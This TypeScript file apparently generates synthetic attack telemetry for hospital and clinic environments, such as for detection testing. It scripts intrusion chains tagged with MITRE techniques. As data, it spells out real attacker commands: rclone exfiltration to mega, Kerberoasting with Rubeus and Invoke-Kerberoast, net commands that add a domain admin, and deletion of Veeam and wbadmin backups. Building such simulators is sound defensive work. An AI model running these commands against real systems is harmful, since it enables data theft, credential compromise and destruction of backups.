/** Hands on the keyboard: stolen remote access, Kerberoasting, a new domain administrator, backups. */
import type { Host } from '../place.ts';
import { vpnLine } from '../logs/network.ts';
import { CMD, EXPLORER, SYSTEM32, type Chain, type Stage } from './stage.ts';

const stolenVpn: Chain = {
  kind: 'stolen-vpn',
  variant: 'RDP, archive, rclone',
  techniques: ['T1078', 'T1133', 'T1021.001', 'T1018', 'T1560.001', 'T1567.002'],
  places: ['hospital', 'practice'],
  hour: 2,
  play: (stage) => {
    const victim = stage.person('doctor');
    const file = stage.server('file');
    const from = vpnIn(stage, victim.account);
    const user = stage.user(victim);
    rdp(stage, file, victim.account, from);
    for (const command of [
      'C:\\Users\\Public\\af.exe -f objectcategory=computer -csv',
      'net share',
      'net view \\\\DC01',
      'quser',
    ])
      stage.command(file, user, command, CMD);
    stage.wait(600, 2_000);
    stage.command(
      file,
      user,
      'C:\\Users\\Public\\7z.exe a -mx1 -v1g -pQx77 C:\\Users\\Public\\out.7z D:\\Shares\\HR D:\\Shares\\Records',
      CMD,
    );
    stage.wait(900, 3_000);
    stage.command(
      file,
      user,
      'C:\\Users\\Public\\svchost.exe copy C:\\Users\\Public\\ mega:out --include *.7z.* --transfers 8',
      CMD,
    );
    stage.windows.network(
      file,
      stage.at,
      'C:\\Users\\Public\\svchost.exe',
      user,
      stage.address('far'),
      443,
    );
  },
};

const vpnSpray: Chain = {
  kind: 'stolen-vpn',
  variant: 'password spraying, remote PowerShell',
  techniques: ['T1110.003', 'T1133', 'T1021.006', 'T1087.002'],
  places: ['hospital'],
  hour: 3,
  play: (stage) => {
    const from = stage.address('far');
    const firewall = stage.server('firewall');
    for (let count = 0; count < 60; count += 1) {
      const target = stage.random.pick(stage.place.staff);
      vpnLine(
        stage.tape,
        stage.random,
        stage.at,
        firewall,
        target.account,
        from,
        'Seychelles',
        'ssl-login-fail',
      );
      stage.wait(10, 40);
    }
    const victim = stage.person('nurse');
    vpnLine(
      stage.tape,
      stage.random,
      stage.at,
      firewall,
      victim.account,
      from,
      'Seychelles',
      'tunnel-up',
    );
    stage.wait(200, 900);
    const server = stage.server('ehr');
    stage.windows.logon(server, stage.at, victim.account, 3, '10.30.0.77');
    const script = 'Get-ADUser -Filter * -Properties * | Export-Csv C:\\ProgramData\\u.csv';
    stage.powershell(
      server,
      stage.user(victim),
      `${SYSTEM32}\\wsmprovhost.exe -Embedding`,
      script,
      `${SYSTEM32}\\svchost.exe`,
    );
    stage.windows.process(server, stage.at, {
      image: `${SYSTEM32}\\whoami.exe`,
      command: '"C:\\Windows\\System32\\whoami.exe" /priv',
      parent: `${SYSTEM32}\\wsmprovhost.exe`,
      user: stage.user(victim),
    });
  },
};

function vpnIn(stage: Stage, account: string): string {
  const firewall = stage.server('firewall');
  const from = stage.address('far');
  if (stage.random.chance(0.5)) {
    vpnLine(
      stage.tape,
      stage.random,
      stage.at,
      firewall,
      account,
      from,
      'Moldova',
      'ssl-login-fail',
    );
    stage.wait(20, 60);
  }
  vpnLine(stage.tape, stage.random, stage.at, firewall, account, from, 'Moldova', 'tunnel-up');
  stage.wait(100, 600);
  return `10.30.0.${stage.random.between(2, 250)}`;
}

function rdp(stage: Stage, host: Host, account: string, from: string): void {
  stage.windows.logon(host, stage.at, account, 3, from);
  stage.windows.logon(host, stage.at + 1_500, account, 10, from);
  stage.wait(30, 120);
}

function kerberoasting(
  variant: string,
  run: (stage: Stage, host: Host, user: string) => void,
): Chain {
  return {
    kind: 'kerberoasting',
    variant,
    techniques: ['T1558.003', 'T1087.002'],
    places: ['hospital'],
    hour: 15,
    play: (stage) => {
      const host = stage.workstation();
      const person = stage.person('nurse');
      const dc = stage.server('dc');
      run(stage, host, stage.user(person));
      for (let count = 0; count < 24; count += 1) {
        stage.windows.security(dc, stage.at, 4769, {
          TargetUserName: `${person.account}@${stage.place.dns.toUpperCase()}`,
          TargetDomainName: stage.place.dns.toUpperCase(),
          ServiceName: `svc-${['sql', 'pacs', 'ehr', 'lab', 'bkp', 'print'][count % 6]}${count}`,
          ServiceSid: `S-1-5-21-1-2-3-${2_000 + count}`,
          TicketOptions: '0x40810000',
          TicketEncryptionType: '0x17',
          IpAddress: `::ffff:${host.address}`,
          IpPort: '51234',
          Status: '0x0',
        });
        stage.at += stage.random.between(50, 900);
      }
    },
  };
}

const rubeus = kerberoasting('Rubeus', (stage, host, user) => {
  const command = 'C:\\Users\\Public\\r.exe kerberoast /nowrap /outfile:C:\\Users\\Public\\h.txt';
  stage.command(host, user, command);
});
const invoked = kerberoasting('PowerShell', (stage, host, user) => {
  const script =
    'function Get-SPNTicket { Add-Type -AssemblyName System.IdentityModel; New-Object ' +
    'System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $SPN }; ' +
    'Invoke-Kerberoast -OutputFormat Hashcat';
  stage.powershell(host, user, 'powershell -ep bypass', script, EXPLORER);
});

function newDomainAdmin(variant: string, typed: boolean): Chain {
  return {
    kind: 'domain-admin',
    variant,
    techniques: ['T1136.002', 'T1098', 'T1078.002'],
    places: ['hospital'],
    hour: 23,
    play: (stage) => {
      const dc = stage.server('dc');
      const helpdesk = stage.person('helpdesk');
      const from = stage.workstation();
      const name = stage.random.pick(['svc_update', 'backup2', 'support_388']);
      rdp(stage, dc, helpdesk.account, from.address);
      const user = stage.user(helpdesk);
      if (typed) {
        stage.command(dc, user, `net user ${name} Winter2026! /add /domain`, CMD, true);
        stage.command(dc, user, `net group "Domain Admins" ${name} /add /domain`, CMD, true);
      }
      const subject = {
        SubjectUserName: helpdesk.account,
        SubjectDomainName: stage.place.domain,
        SubjectLogonId: '0x5f00d1',
      };
      const target = { TargetDomainName: stage.place.domain, PrivilegeList: '-' };
      stage.windows.security(dc, stage.at, 4720, {
        ...subject,
        ...target,
        TargetUserName: name,
        SamAccountName: name,
        TargetSid: 'S-1-5-21-1-2-3-9001',
      });
      stage.wait(5, 60);
      stage.windows.security(dc, stage.at, 4728, {
        ...subject,
        ...target,
        MemberName: `CN=${name},CN=Users,DC=stmartin,DC=example`,
        MemberSid: 'S-1-5-21-1-2-3-9001',
        TargetUserName: 'Domain Admins',
        TargetSid: 'S-1-5-21-1-2-3-512',
      });
      stage.wait(600, 1_800);
      stage.windows.logon(dc, stage.at, name, 10, from.address);
    },
  };
}

function backupsDestroyed(
  variant: string,
  run: (stage: Stage, host: Host, user: string) => void,
): Chain {
  return {
    kind: 'backup-deletion',
    variant,
    techniques: ['T1490', 'T1485', 'T1489', 'T1021.001'],
    places: ['hospital'],
    hour: 1,
    play: (stage) => {
      const host = stage.server('backup');
      const admin = stage.person('admin');
      rdp(stage, host, admin.account, stage.workstation().address);
      run(stage, host, stage.user(admin));
    },
  };
}

const throughConsole = backupsDestroyed('Veeam cmdlets', (stage, host, user) => {
  const script =
    'Get-VBRBackup | Remove-VBRBackup -FromDisk -Confirm:$false; Get-VBRJob | Remove-VBRJob -Confirm:$false';
  stage.powershell(host, user, 'powershell.exe -Command -', script, EXPLORER);
  stage.command(host, user, 'sc config VeeamBackupSvc start= disabled', CMD, true);
  stage.command(host, user, 'net stop VeeamBackupSvc /y', CMD, true);
});
const throughFiles = backupsDestroyed('files and catalogue', (stage, host, user) => {
  stage.command(host, user, 'wbadmin delete systemstatebackup -keepversions:0 -quiet', CMD, true);
  stage.command(host, user, 'taskkill /F /IM Veeam.Backup.Service.exe', CMD, true);
  stage.command(
    host,
    user,
    'cmd.exe /c del /s /f /q E:\\Backups\\*.vbk E:\\Backups\\*.vib',
    CMD,
    true,
  );
  for (let count = 0; count < 40; count += 1) {
    stage.windows.sysmon(host, stage.at, 23, {
      Image: CMD,
      User: user,
      TargetFilename: `E:\\Backups\\Job${count % 5}\\full${count}.vbk`,
      Archived: 'false',
    });
    stage.at += 300;
  }
});

export const INTRUSIONS: readonly Chain[] = [
  stolenVpn,
  vpnSpray,
  rubeus,
  invoked,
  newDomainAdmin('typed in a shell', true),
  newDomainAdmin('in the console, no command line', false),
  throughConsole,
  throughFiles,
];
